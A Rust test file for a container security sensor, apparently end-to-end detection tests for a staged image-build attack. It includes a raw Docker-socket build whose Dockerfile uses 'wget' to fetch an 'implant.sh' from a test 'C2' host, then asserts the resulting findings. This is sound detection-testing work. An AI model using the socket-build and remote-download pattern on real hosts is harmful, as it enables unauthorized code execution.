//! Live end-to-end tests of correlation and detection (issue 5): the whole T1612 attack.
//!
//! A raw Engine API `POST /build` (curl on the unix socket, a tar context) whose RUN step
//! downloads a file from a test host in a network namespace; the sensor is restarted (lineage
//! must survive it); then a container is started from the built image. The test asserts the
//! build's outbound connection to that host and its policy class, the container_start linked
//! to the build, the findings, and validates every record against schema/records.schema.json.
//!
//! Run as root, one test at a time, with the release sensor built:
//! `cargo build --release -p sensor && cargo test -p sensor-tests --test detect -- --test-threads=1`
use std::path::Path;
use std::time::Duration;

use sensor_tests::*;

const BUILD_TIMEOUT: Duration = Duration::from_secs(180);
const RECORD_TIMEOUT: Duration = Duration::from_secs(30);

/// The policy of the test: `ci` is the only expected builder; nothing the test host serves is
/// an allowed registry.
const POLICY: &str = r#"
[builders]
users = ["ci"]

[outbound]
allowed = ["registry.corp.example", "10.30.0.0/24"]

[rules.deploy_soon_after_build]
window_secs = 600
"#;

/// `POST /build?t=TAG` with a tar of `dockerfile` as the body, as an attacker with the socket
/// (or an exposed API) would send it. Returns the response body (the build's JSON stream).
fn raw_build(dockerfile: &str, tag: &str) -> String {
    let ctx = BuildContext::new(dockerfile);
    let tar = ctx.tar();
    let out = Cmd::new("curl")
        .args([
            "-sS",
            "--fail",
            "--unix-socket",
            DOCKER_SOCKET,
            "-X",
            "POST",
        ])
        .args(["-H", "Content-Type: application/x-tar", "--data-binary"])
        .arg(format!("@{}", tar.display()))
        .arg(format!("http://localhost/v1.41/build?t={tag}&rm=1"))
        .timeout(BUILD_TIMEOUT)
        .run();
    let body = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        body.contains("Successfully built") || body.contains("aux"),
        "build failed:\n{body}"
    );
    assert!(!body.contains("errorDetail"), "build failed:\n{body}");
    body
}

fn write_policy(dir: &Path, text: &str) -> String {
    let p = dir.join("policy.toml");
    std::fs::write(&p, text).unwrap();
    p.to_str().unwrap().to_string()
}

#[test]
fn build_with_outbound_download_then_deploy_is_linked_and_detected() {
    let sc = Scenario::new("the attack test (dockerd, network namespaces, eBPF)");
    let c2 = sc.host("c2");
    c2.serve_http(8080, &[("implant.sh", b"#!/bin/sh\necho implanted\n")]);
    let policy = write_policy(sc.dir(), POLICY);
    let state_dir = sc.state_dir();
    let args = [
        "--policy",
        policy.as_str(),
        "--state-dir",
        state_dir.as_str(),
    ];

    let mut sensor = sc.start_sensor(&args);
    let tag = sc.tag("detect-attack");
    let url = c2.url(8080, "implant.sh");
    raw_build(
        &format!("FROM {BASE_IMAGE}\nRUN wget -q -O /implant.sh {url} && chmod +x /implant.sh\n"),
        &tag,
    );

    // The build, with its outbound connection to the test host, classed by the policy.
    let build = build_record(&sensor, "build_finished", &tag, RECORD_TIMEOUT);
    let build_id = build["build_id"].as_str().unwrap().to_string();
    let ip = c2.ip().to_string();
    let outbound = build["outbound"].as_array().cloned().unwrap_or_default();
    let to_c2 = outbound
        .iter()
        .find(|o| o["dst_addr"] == ip.as_str() && o["dst_port"] == 8080)
        .unwrap_or_else(|| panic!("no outbound connection to {ip}:8080 in {build}"));
    assert!(
        to_c2["policy"] == "unknown" || to_c2["policy"] == "denied",
        "{to_c2}"
    );
    let image_id = sc.image_id(&tag);

    // The findings on the build: outbound to a destination outside the allowed registries
    // (named), and root over the unix socket is not the `ci` builder.
    let f = sensor.expect_record(
        "finding",
        &[
            ("rule", eq("build_outbound_not_allowed")),
            ("build_id", eq(build_id.as_str())),
        ],
        RECORD_TIMEOUT,
    );
    assert_fields(
        &f,
        &[
            ("summary", contains(format!("{ip}:8080"))),
            (
                "details.destinations",
                satisfies(&format!("a destination {ip}"), {
                    let ip = ip.clone();
                    move |d| {
                        d.as_array()
                            .is_some_and(|d| d.iter().any(|d| d["addr"] == ip.as_str()))
                    }
                }),
            ),
            ("attack.0", eq("T1612")),
            ("analytics.0", eq("AN1261")),
        ],
    );
    sensor.expect_record(
        "finding",
        &[
            ("rule", eq("build_from_unexpected_client")),
            ("build_id", eq(build_id.as_str())),
        ],
        RECORD_TIMEOUT,
    );
    let first_run = sensor.records();
    assert_eq!(sensor.stop().unwrap().code(), Some(0));
    let store = sc.path("state").join("lineage.json");
    assert!(store.is_file(), "no lineage store at {}", store.display());

    // A new sensor: the image's lineage must come from the store.
    let sensor = sc.start_sensor(&args);
    let name = sc.container_name("detect-attack");
    sc.docker(&["run", "-d", "--name", &name, &tag, "sleep", "60"]);
    let start = sensor.expect_record(
        "container_start",
        &[("name", eq(name.as_str()))],
        RECORD_TIMEOUT,
    );
    assert_fields(
        &start,
        &[
            ("build_id", eq(build_id.as_str())),
            ("image_id", eq(image_id.as_str())),
            ("runtime", eq("docker")),
            (
                "seconds_since_build",
                satisfies("less than 600 s", |s| s.as_u64().is_some_and(|s| s < 600)),
            ),
            ("client.transport", eq("unix")),
        ],
    );
    let container_id = start["container_id"].as_str().unwrap().to_string();

    let deploy = sensor.expect_record(
        "finding",
        &[
            ("rule", eq("deploy_soon_after_build")),
            ("container_id", eq(container_id.as_str())),
        ],
        RECORD_TIMEOUT,
    );
    // The build also had a non-allowed outbound connection: the stronger severity.
    assert_fields(
        &deploy,
        &[
            ("build_id", eq(build_id.as_str())),
            ("severity", eq("high")),
            (
                "evidence.record_ids",
                satisfies("a non-empty list", |a| {
                    a.as_array().is_some_and(|a| !a.is_empty())
                }),
            ),
        ],
    );
    // Nothing was pushed: no AN0946 chain for this container (other tests on this host may
    // push and run their own images while this one runs).
    sensor.expect_no_record(
        "finding",
        &[
            ("rule", eq("build_push_deploy_chain")),
            ("container_id", eq(container_id.as_str())),
        ],
        Duration::from_secs(2),
    );

    let mut all = first_run;
    all.extend(sensor.records());
    assert_records_match_schema(&all);

    // The build session itself (the builds engine's part of the record).
    assert_fields(
        &build,
        &[
            ("status", eq("succeeded")),
            ("image_id", eq(image_id.as_str())),
        ],
    );
}

#[test]
fn malformed_policy_stops_the_sensor_with_one_clear_line() {
    require_root("running the sensor");
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(
        dir.path(),
        "[rules.deploy_soon_after_build]\nwindow_secs = 60\nwindow = 5\n",
    );
    let out = Cmd::new(sensor_bin())
        .args(["run", "--policy", &policy, "--state-dir"])
        .arg(dir.path().join("state"))
        .timeout(Duration::from_secs(30))
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "the sensor started with a malformed policy"
    );
    assert!(
        out.stdout.is_empty(),
        "records were written: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    let line = err
        .lines()
        .find(|l| l.contains("policy"))
        .unwrap_or_else(|| panic!("stderr: {err}"));
    assert!(line.contains("line 3") && line.contains("window"), "{line}");
}

#[test]
fn checked_in_example_policy_validates_with_config_check() {
    let out = Cmd::new(sensor_bin())
        .args(["config", "check"])
        .arg(workspace_root().join("deploy/policy.example.toml"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
